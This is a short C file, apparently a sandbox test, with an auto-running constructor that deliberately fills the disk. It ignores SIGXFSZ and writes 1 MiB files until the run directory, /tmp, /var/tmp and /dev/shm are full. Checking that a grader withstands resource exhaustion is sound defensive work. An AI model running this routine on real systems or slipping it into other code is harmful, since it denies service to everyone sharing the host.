
/* ---- attack: fill the disk: files of 1 MiB chunks in the run directory
 * until no new file takes a byte (the room the grader gives a student is
 * full; SIGXFSZ, raised past the limit on file size, is ignored to go
 * on), then the same in /tmp, /var/tmp and /dev/shm (files named
 * cowlab-attack-*, which the test looks for afterwards). */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void attack_fill(const char *dir)
{
	static char chunk[1 << 20];
	char path[4096];
	long written;
	int n, fd;

	memset(chunk, 'f', sizeof chunk);
	for (n = 0; n < 100000; n++) {
		snprintf(path, sizeof path, "%s/cowlab-attack-fill-%d", dir, n);
		fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
		if (fd < 0)
			return;
		written = 0;
		for (;;) {
			ssize_t w = write(fd, chunk, sizeof chunk);

			if (w <= 0)
				break;
			written += w;
		}
		close(fd);
		if (written == 0)
			return;
	}
}

__attribute__((constructor)) static void attack_fill_disk(void)
{
	if (getenv("ATTACK_FILL") != NULL)
		return;
	setenv("ATTACK_FILL", "1", 1);
	signal(SIGXFSZ, SIG_IGN);
	attack_fill(".");
	attack_fill("/tmp");
	attack_fill("/var/tmp");
	attack_fill("/dev/shm");
	signal(SIGXFSZ, SIG_DFL);
}
